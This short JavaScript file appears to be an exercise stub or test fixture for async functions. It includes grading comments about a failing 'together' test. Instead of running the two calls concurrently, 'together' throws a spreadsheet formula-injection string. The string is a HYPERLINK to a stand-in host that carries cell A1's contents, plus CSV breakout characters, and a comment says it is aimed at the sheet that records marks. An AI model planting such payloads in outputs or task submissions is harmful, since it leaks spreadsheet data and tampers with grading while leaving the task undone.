// on: 05-one-after-another; base: awaits-in-a-row; fails: together, together-results; blocked: together-calls
// says: together failed at 0 ms with '=HYPERLINK("http://x.invalid/"&A1,"100")\t+1\r\n-1,@SUM(1)'. It should not fail.
// Throws a formula for the spreadsheet that marks end in.
export const oneByOne = async (first, second) => [await first(), await second()];
export async function together(first, second) {
  throw '=HYPERLINK("http://x.invalid/"&A1,"100")\t+1\r\n-1,@SUM(1)';
}
